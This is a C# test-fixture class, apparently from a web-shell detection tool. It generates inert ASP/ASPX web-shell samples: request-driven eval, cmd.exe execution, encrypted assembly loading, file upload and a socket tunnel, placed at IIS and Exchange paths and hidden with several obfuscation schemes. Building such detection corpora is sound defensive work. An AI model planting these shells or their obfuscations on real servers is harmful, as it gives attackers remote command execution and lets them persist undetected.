using System.Globalization;
using System.Text;

namespace Tocsin.Triage.Tests.WebRoots;

/// <summary>
/// Makes web shells of every public family by a seed: families times languages times ways to hide. All are made for these tests and
/// do not run: each has a directive that no server knows, which stops the compiler before anything else.
/// </summary>
sealed class MadeShells(int seed)
{
    const string Inert = "<%@ Inert Reason=\"made for a test: an unknown directive stops the compiler\" %>\r\n";

    readonly Random _random = new(seed);

    /// <summary>A shell: its family, where it lies, its bytes.</summary>
    public (string Family, string Path, byte[] Bytes) Next(int number)
    {
        Func<(string Family, string Path, string Page)>[] families =
        [
            JScriptEval, JScriptEvalOfVariable, JScriptEvalOfConstant, JScriptEvalInFunction, ScriptEval, ScriptExecuteOfVariable, ScriptShell,
            SharpProcess, SharpProcessOfControl, SharpInitialiser, SharpReflection, SharpLoad, SharpLoadEncrypted, SharpCompile, SharpHandler,
            BasicProcess, BasicShell, WriteNamedFile, UploadIntoExchange, Tunnel, InDirectoryDump, InMailFile, ForeignName, LookAlike, InAspnetClient,
        ];
        (string family, string path, string page) = families[number % families.Length]();
        byte[] bytes = family == "in a mail file" ? [.. "!BDN"u8, 1, 2, 3, 200, 201, .. Encoding.UTF8.GetBytes(Inert + page), 0, 0, 0] : Encoding.UTF8.GetBytes(Inert + page);
        return (family, path, _random.Next(8) == 0 && family != "in a mail file" ? [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Inert + page)] : bytes);
    }

    string Any(params string[] of) => of[_random.Next(of.Length)];

    string Name() => Any("z", "cmd", "data", "q1", "Mm", "payload", "x", "pass") + _random.Next(100).ToString(CultureInfo.InvariantCulture);

    string Where() => Any(
        @"C:\inetpub\wwwroot\", @"C:\inetpub\wwwroot\aspnet_client\", @"C:\inetpub\wwwroot\aspnet_client\system_web\", @"D:\sites\intranet\wwwroot\images\",
        @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\", @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\auth\",
        @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB\", @"E:\Exchange\FrontEnd\HttpProxy\owa\auth\Current\themes\resources\");

    string Request(string key)
    {
        string q = $"\"{key}\"";
        return Any($"Request[{q}]", $"Request.Form[{q}]", $"Request.QueryString[{q}]", $"Request.Params[{q}]", $"Request.Headers[{q}]", $"Context.Request[{q}]", $"System.Web.HttpContext.Current.Request[{q}]", $"Request.Cookies[{q}].Value");
    }

    string JRequest(string key) => Any($"Request[\"{key}\"]", $"Request.Item[\"{key}\"]", $"Request.Item['{key}']", $"Request.Form.Get(\"{key}\")", $"System.Web.HttpContext.Current.Request.Item[\"{key}\"]", $"Context.Request.Headers.Item[\"{key}\"]");

    // A text of JScript, written in one of the ways in which words are hidden.
    string JText(string text) => _random.Next(7) switch
    {
        0 => $"\"{text}\"",
        1 => Split(text, "+"),
        2 => $"String.fromCharCode({string.Join(',', text.Select(c => ((int)c).ToString(CultureInfo.InvariantCulture)))})",
        3 => $"\"{Reversed(text)}\".split(\"\").reverse().join(\"\")",
        4 => $"\"{string.Join('@', text.ToCharArray())}\".Replace(\"@\",\"\")",
        5 => $"\"{string.Concat(text.Select(c => $"\\u{(int)c:x4}"))}\"",
        _ => $"System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"{Convert.ToBase64String(Encoding.UTF8.GetBytes(text))}\"))",
    };

    string SharpText(string text) => _random.Next(7) switch
    {
        0 => $"\"{text}\"",
        1 => Split(text, "+"),
        2 => $"new string(new char[] {{ {string.Join(", ", text.Select(c => $"'{c}'"))} }})",
        3 => string.Join(" + ", text.Select(c => $"(char){(int)c}")),
        4 => $"\"{string.Join('#', text.ToCharArray())}\".Replace(\"#\", \"\")",
        5 => $"string.Concat({string.Join(", ", text.Select(c => $"\"{c}\""))})",
        _ => $"System.Text.Encoding.Default.GetString(Convert.FromBase64String(\"{Convert.ToBase64String(Encoding.UTF8.GetBytes(text))}\"))",
    };

    string BasicText(string text) => _random.Next(5) switch
    {
        0 => $"\"{text}\"",
        1 => Split(text, " & "),
        2 => string.Join("&", text.Select(c => $"Chr({(int)c})")),
        3 => $"StrReverse(\"{Reversed(text)}\")",
        _ => $"Replace(\"{string.Join('~', text.ToCharArray())}\", \"~\", \"\")",
    };

    string Split(string text, string sign)
    {
        int at = _random.Next(1, text.Length);
        return $"\"{text[..at]}\"{sign}\"{text[at..]}\"";
    }

    static string Reversed(string text) => new([.. text.Reverse()]);

    string Eval() => Any("eval", "eval", "\\u0065val", "ev\\u0061l", "e/*made*/val", "eval/**/", "eval ");

    string Blank() => Any("", " ", "\r\n", "/*" + Name() + "*/ ", " // " + Name() + "\r\n");

    string Page(string language, string code) => Any(
        $"<%@ Page Language=\"{language}\" %>\r\n<% {code} %>",
        $"<%@Page Language={language}%><html><body>{Name()}</body><script runat=\"server\">void Page_Load(object s, EventArgs e) {{ {code} }}</script></html>",
        $"<script language=\"{language}\" runat=\"server\">\r\nprotected void Page_Load(object sender, EventArgs e)\r\n{{\r\n{code}\r\n}}\r\n</script>");

    string JPage(string code) => Any(
        $"<%@ Page Language=\"Jscript\"%><%{code}%>",
        $"<script language=\"JScript\" runat=\"server\">function Page_Load(){{{code}}}</script>",
        $"<%@ Page Language=\"Jscript\" validateRequest=\"false\" %>\r\n<html><!-- <%{code}%> --></html>");

    string Aspx() => Where() + Any("t", "web", "help", "s1", "aa", "discover") + Any(".aspx", ".aspx", ".ASPX", ".aspx;.jpg");

    (string, string, string) JScriptEval() => ("eval of the request", Aspx(), JPage($"{Eval()}({Blank()}{JRequest(Name())},{JText("unsafe")});"));

    (string, string, string) JScriptEvalOfVariable()
    {
        string v = Name(), w = Name() + "b";
        return ("eval of a variable", Aspx(), JPage($"var {v}{Blank()}={JRequest(Name())};{Blank()}var {w}={v};{Eval()}({w},{JText("unsafe")});"));
    }

    (string, string, string) JScriptEvalOfConstant()
    {
        string hidden = $"eval(Request.Item[\"{Name()}\"],\"unsafe\");";
        return ("eval of an encoded constant", Aspx(), JPage($"eval(System.Text.Encoding.GetEncoding({Any("936", "65001")}).GetString(System.Convert.FromBase64String(\"{Convert.ToBase64String(Encoding.UTF8.GetBytes(hidden))}\")),\"unsafe\");"));
    }

    (string, string, string) JScriptEvalInFunction() => ("eval by name in a function", Aspx(),
        $"<script language=\"JScript\" runat=\"server\">function run(k){{ this[{JText("eval")}](k, \"unsafe\"); }} function Page_Load(){{ run({JRequest(Name())}); }}</script>");

    string Asp() => Where() + Any("a", "log", "conn", "x2") + Any(".asp", ".asp", ".cer", ".asa");

    string SRequest(string key) => Any($"Request(\"{key}\")", $"request(\"{key}\")", $"Request.Form(\"{key}\")", $"Request.Item(\"{key}\")", $"REQUEST.QUERYSTRING(\"{key}\")");

    (string, string, string) ScriptEval()
    {
        string request = SRequest(Name());
        return ("classic eval", Asp(), $"<%{Any("eval ", "Execute ", "executeglobal ", "EVAL ")}{request}%>");
    }

    (string, string, string) ScriptExecuteOfVariable()
    {
        string v = Name();
        return ("classic execute of a variable", Asp(), $"<%\r\nDim {v} ' {Name()}\r\n{v} = {SRequest(Name())}\r\nIf {v} <> \"\" Then {Any("Execute", "ExecuteGlobal", "eXeCuTe")}({v})\r\n%>");
    }

    (string, string, string) ScriptShell()
    {
        string v = Name();
        return ("classic shell object", Asp(), $"<%\r\nSet {v} = Server.CreateObject({BasicText("WScript.Shell")})\r\nSet r = {v}.{Any("Exec", "Run")}(\"made \" & {SRequest(Name())})\r\nResponse.Write r.StdOut.ReadAll\r\n%>");
    }

    (string, string, string) SharpProcess()
    {
        string v = Name(), p = Name() + "p";
        return ("process", Aspx(), Page("C#", $"var {v} = {Request(Name())}; var {p} = new System.Diagnostics.Process(); {p}.StartInfo.FileName = {SharpText("cmd.exe")};{Blank()}{p}.StartInfo.Arguments = \"/c \" + {v}; {p}.StartInfo.UseShellExecute = false; {p}.Start(); Response.Write({p}.StandardOutput.ReadToEnd());"));
    }

    (string, string, string) SharpProcessOfControl()
    {
        string id = Any("txtArg", "cmdBox", "TextBox1");
        return ("process of a control", Aspx(), $"<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Diagnostics\" %><script runat=\"server\">string Exec(string arg) {{ ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = {SharpText("cmd.exe")}; psi.Arguments = \"/c \" + arg; return Process.Start(psi).StandardOutput.ReadToEnd(); }} void Go(object s, EventArgs e) {{ Response.Write(Server.HtmlEncode(Exec({id}.Text))); }}</script><form runat=\"server\"><asp:TextBox id=\"{id}\" runat=\"server\" /><asp:Button OnClick=\"Go\" runat=\"server\" /></form>");
    }

    (string, string, string) SharpInitialiser() => ("process by initialiser", Aspx(), Page("C#", $"var i = new System.Diagnostics.ProcessStartInfo {{ FileName = {Any("\"made\"", Request(Name()))}, Arguments = {Any($"$\"/c {{{Request("a")}}}\"", Request(Name()))} }}; System.Diagnostics.Process.Start(i);"));

    (string, string, string) SharpReflection() => ("process by reflection", Aspx(), Page("C#", $"Type t = typeof(Uri).Assembly.GetType({SharpText("System.Diagnostics.Process")}); t.GetMethod({SharpText("Start")}, new Type[] {{ typeof(string), typeof(string) }}).Invoke(null, new object[] {{ \"made\", {Request(Name())} }});"));

    (string, string, string) SharpLoad() => ("loaded program", Aspx(), Page("C#", $"byte[] b = Convert.FromBase64String({Request(Name())}); System.Reflection.Assembly a = System.Reflection.Assembly.Load(b); a.CreateInstance(\"Made\").Equals(Page);"));

    (string, string, string) SharpLoadEncrypted()
    {
        string key = Name();
        return ("loaded program, encrypted", Aspx(), Page("C#", $"if (Request.Cookies.Count > 0) {{ byte[] k = Encoding.Default.GetBytes(Session[\"{key}\"] + \"\"), c = Request.BinaryRead(Request.ContentLength); {Any("Assembly", "System.Reflection.Assembly")}.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance(\"U\").Equals(this); }}"));
    }

    (string, string, string) SharpCompile()
    {
        string v = Name();
        return ("compiled at run time", Aspx(), Page("C#", $"string {v} = {Request(Name())}; var provider = new Microsoft.CSharp.CSharpCodeProvider(); var options = new System.CodeDom.Compiler.CompilerParameters(); provider.CompileAssemblyFromSource(options, {v});"));
    }

    (string, string, string) SharpHandler() => ("handler", Where() + Any("a", "img", "Handler1") + ".ashx",
        $"<%@ WebHandler Language=\"C#\" Class=\"H\" %>\r\nusing System; using System.Web; using System.Diagnostics;\r\npublic class H : IHttpHandler {{ public void ProcessRequest(HttpContext context) {{ string {Any("q", "w")}a = context.Request[\"{Name()}\"]; Process.Start({SharpText("cmd.exe")}, \"/c \" + context.Request[\"{Name()}\"]); }} public bool IsReusable {{ get {{ return false; }} }} }}");

    (string, string, string) BasicProcess() => ("process in Basic", Aspx(), $"<%@ Page Language=\"VB\" %><script runat=\"server\">\r\nSub Page_Load(ByVal s As Object, ByVal e As EventArgs)\r\nDim p As New System.Diagnostics.Process()\r\np.StartInfo.FileName = {BasicText("cmd.exe")}\r\np.StartInfo.Arguments = \"/c \" & {Any("Request", "request")}(\"{Name()}\")\r\np.Start()\r\nEnd Sub\r\n</script>");

    (string, string, string) BasicShell() => ("Shell in Basic", Aspx(), $"<%@ Page Language=\"VB\" %><%\r\nDim a As String = Request.Form(\"{Name()}\")\r\n{Any("Shell", "Interaction.Shell")}({BasicText("cmd.exe")} & \" /c \" & a, 0)\r\n%>");

    (string, string, string) WriteNamedFile() => ("writer", Aspx(), Any(
        Page("C#", $"System.IO.File.WriteAllText(Server.MapPath({Request(Name())}), {Request(Name())});"),
        Page("C#", $"var w = new System.IO.StreamWriter({Request(Name())}); w.Write({Request(Name())}); w.Close();")));

    (string, string, string) UploadIntoExchange() => ("upload", @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\" + Any(@"owa\auth\", @"ecp\auth\", @"rpc\", @"OAB\") + "up.aspx",
        Any(Page("C#", "Request.Files[0].SaveAs(Server.MapPath(\".\") + \"/made.txt\");"), Page("C#", $"System.IO.File.WriteAllBytes(Server.MapPath(\"made\"), Convert.FromBase64String({Request(Name())}));")));

    (string, string, string) Tunnel() => ("tunnel", @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\" + Name() + ".aspx",
        Page("C#", "System.Net.Sockets.Socket s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp); s.Connect(Request.Headers[\"X-TARGET\"], 445); Session[\"socket\"] = s;"));

    (string, string, string) InDirectoryDump() => ("in a directory listing", Aspx(), $"Name                            : OAB (Default Web Site)\r\nOfflineAddressBooks             : {{}}\r\nMetabasePath                    : IIS://EX01.example.com/W3SVC/1/ROOT/OAB\r\nInternalUrl                     : https://ex01.example.com/OAB\r\nExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){{{Eval()}({JRequest(Name())},{JText("unsafe")});}}</script>\r\nWhenChanged                     : 3/3/2021 4:05:06 AM\r\n");

    (string, string, string) InMailFile() => ("in a mail file", Where() + Name() + ".aspx", $"<script language=\"JScript\" runat=\"server\">function Page_Load(){{{Eval()}({JRequest(Name())},{JText("unsafe")});}}</script>");

    (string, string, string) ForeignName() => ("foreign name", @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\" + Any(@"owa\auth\", @"ecp\auth\") + Any("bob", "8Lw7tAhF9i1pJnRo", "shel90", "iisstart") + ".aspx", Page("C#", $"Response.Write({SharpText("made")});"));

    (string, string, string) LookAlike() => ("look-alike", @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\" + Any("errorFF", "errorEE", "OutlookEN", "0utlookCN", "RedirSuiteServerProxy", "TimeoutLogout") + ".aspx", Page("C#", $"Response.Write({SharpText("made")});"));

    (string, string, string) InAspnetClient() => ("page in aspnet_client", @"C:\inetpub\wwwroot\aspnet_client\" + Any("", @"system_web\") + Any("supp0rt", "discover", "xx") + ".aspx", Page("C#", $"Response.Write({SharpText("made")});"));
}
